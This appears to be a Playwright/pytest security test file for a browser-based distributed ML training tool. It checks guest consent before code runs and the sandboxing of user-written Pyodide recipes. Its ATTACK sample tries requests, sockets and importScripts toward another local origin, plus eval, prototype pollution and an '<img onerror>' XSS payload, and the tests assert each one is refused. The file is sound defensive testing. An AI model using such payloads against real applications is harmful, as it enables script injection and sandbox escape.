"""What a guest's tab runs is what its person has seen and clicked for; and what a recipe's Python cannot do there."""

import re
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from distml_py import wire
from driving import VIOLATIONS, code_of, edit, status, train, until, until_editor, until_state
from page_desk import Desk
from peers import has_ipv6


@pytest.mark.fault("S30")
def test_other_code_waits_for_another_click_and_the_same_code_does_not(desk: Desk) -> None:
    host = desk.page
    until_editor(host)
    until_state(host, "ready")
    guest = desk.open(desk.coordinator.join_link)
    expect(guest.get_by_text("Its code will be shown here before anything of it runs.")).to_be_visible(timeout=20_000)
    expect(guest.get_by_role("button", name="Join")).to_be_hidden()
    train(host, 100_000)
    guest.get_by_role("button", name="Join").click(timeout=60_000)
    until(host, "distml.status().workers === 2", 60)
    for code, workers in ((code_of(host), 2), (code_of(host) + "\n# another line\n", 1)):
        host.get_by_role("button", name="Stop").click()
        until_state(host, "stopped", timeout_s=30)
        if workers == 1:
            edit(host, code)
        before = status(host)["run"]
        train(host, 100_000)
        until(host, f"distml.status().run !== '{before}' && distml.status().step >= 1", 60)
        until(host, f"distml.status().workers === {workers}", 30)
    expect(guest.get_by_text("The host has started a run with other code.")).to_be_visible()
    assert "# another line" in str(guest.locator("#plain-code").text_content())
    guest.wait_for_timeout(1000)
    assert status(host)["workers"] == 1, "nothing of it runs before the click"
    guest.get_by_role("button", name="Join").click()
    until(host, "distml.status().workers === 2", 60)
    assert "&c=" in status(host)["join_url"]
    late = desk.open(status(host)["join_url"][:-1] + "x")
    expect(late.get_by_text("This is not the code that your link was made for.")).to_be_visible(timeout=20_000)
    host.get_by_role("button", name="Stop").click()
    until_state(host, "stopped", timeout_s=30)


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[bytes]]]:
    """Another origin of this machine: its port, and what arrives there."""
    arrived: list[bytes] = []
    listening = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                peer, _ = listening.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(1)
                arrived.append(peer.recv(200))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield listening.getsockname()[1], arrived
    listening.close()


ATTACK = '''
import js
from pyodide.ffi import create_proxy, to_js
def attempt(name, what):
    try:
        print("TRIED", name, what())
    except BaseException as error:
        print("TRIED", name, "refused", type(error).__name__)
def request(address, method="GET"):
    asked = js.XMLHttpRequest.new()
    asked.open(method, address, False)
    asked.send("x" if method == "POST" else None)
    return asked.status
def opened(make):
    """A socket that the policy forbids may be made, and never opens."""
    made = make()
    made.onopen = create_proxy(lambda _: print("a socket BREACHED"))
    return "made"
home = js.self.location.origin
attempt("foreign", lambda: request("http://127.0.0.1:PORT/"))
attempt("foreign socket", lambda: opened(lambda: js.WebSocket.new("ws://127.0.0.1:PORT/")))
attempt("own socket", lambda: opened(lambda: js.WebSocket.new(home.replace("http", "ws") + "/ws")))
attempt("eval", lambda: js.eval("1 + 1"))
attempt("function", lambda: js.Function.new("return 1")())
attempt("import scripts", lambda: js.importScripts("http://127.0.0.1:PORT/x.js"))
attempt("webrtc", lambda: js.RTCPeerConnection.new())
attempt("qr", lambda: request(home + "/api/qr"))
attempt("post", lambda: request(home + "/api/status", "POST"))
attempt("token", lambda: "t=" in str(js.self.location.href))
for message in ({"kind": "report", "report": {"__proto__": {"state": "hacked"}, "accuracy": "<img src=x onerror=alert(1)>"}},
                {"kind": "report", "report": None}, {"kind": "nonsense"}, {"kind": "frame", "data": "x" * 5_000_000},
                {"kind": "stage", "stage": ["x"] * 100_000}, {"kind": "gpu", "state": 7}, {"kind": "print", "text": 5}):
    js.self.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
'''


@pytest.mark.fault("S27", "S28", "S29")
def test_a_recipes_python_reaches_nobody_and_cannot_pretend(
    context: BrowserContext, coordinator: Any, elsewhere: tuple[int, list[bytes]]
) -> None:
    port, arrived = elsewhere
    page: Page = context.new_page()
    page.goto(coordinator.host_link)
    until_editor(page)
    until_state(page, "ready")
    edit(page, ATTACK.replace("PORT", str(port)) + code_of(page))
    train(page, 20)
    until_state(page, "finished", "error", timeout_s=120)
    assert status(page)["state"] == "finished", status(page)
    said = [line.split(" ", 1)[1] for line in (page.locator("#printed").text_content() or "").splitlines() if "TRIED" in line]
    found = {line.rsplit(" ", 2)[0] if "refused" in line else line.rsplit(" ", 1)[0]: line for line in said}
    assert all("refused" in found[name] for name in ("foreign", "eval", "function", "import scripts", "webrtc")), found
    assert found["qr"] == "qr 401" and found["post"] in ("post 405", "post 404") and found["token"] == "token False"
    page.wait_for_timeout(1000)
    assert arrived == [], "nothing arrived at the other origin"
    assert "BREACHED" not in str(page.locator("#printed").text_content())
    assert coordinator.status()["workers"] <= 1
    assert page.evaluate("({}).state === undefined"), "no prototype was changed"
    assert page.locator("img[src=x]").count() == 0
    assert status(page)["test_accuracy"] > 0.5, "the numbers are the run's own"


@pytest.mark.fault("S5")
def test_who_was_told_the_code_comes_in_by_typing_it(context: BrowserContext, serve: Any) -> None:
    coordinator = serve("--lan")
    (code,) = re.findall(r"Or say: \S+/code and (\w{4}-\w{4})", coordinator.log.read_text())
    page = context.new_page()
    page.goto(coordinator.url + "code")
    page.get_by_label("The eight signs that the host says").fill("22222222")
    page.get_by_role("button", name="Join").click()
    expect(page.get_by_text("that is not the code")).to_be_visible()
    page.get_by_label("The eight signs that the host says").fill(code.lower())
    page.get_by_role("button", name="Join").click()
    expect(page.get_by_text("The host has not started a run yet")).to_be_visible(timeout=20_000)
    assert "/#t=" in page.url and code not in page.url


SOCKET = """
import js
from pyodide.ffi import create_proxy
own = js.WebSocket.new(js.self.location.origin.replace("http", "ws") + "/ws")
own.onopen = create_proxy(lambda _: own.send('HELLO'))
own.onclose = create_proxy(lambda event: print("CLOSED", event.code))
"""


@pytest.mark.fault("S27", "S28")
def test_by_ipv6_a_page_trains_and_its_recipes_own_socket_is_nobodys(context: BrowserContext, serve: Any) -> None:
    """No policy can name an IPv6 address, so the socket opens there; where there is no IPv6, that is said."""
    if not has_ipv6():
        with pytest.raises(AssertionError, match="this machine has no IPv6"):
            serve("--host", "::1")
        return
    coordinator = serve("--host", "::1")
    assert coordinator.host_link.startswith("http://[::1]:")
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.goto(coordinator.host_link)
    until_editor(page)
    until_state(page, "ready")
    hello = str(wire.encode(wire.Hello(wire.PROTOCOL, "", "host", "python", "")))
    edit(page, SOCKET.replace("HELLO", hello) + code_of(page))
    train(page, 40)
    until_state(page, "finished", "error", timeout_s=120)
    assert status(page)["state"] == "finished", status(page)
    expect(page.locator("#printed")).to_contain_text("CLOSED 4401", timeout=20_000)
    assert coordinator.status()["workers"] <= 1 and page.evaluate("window.violations ?? []") == []
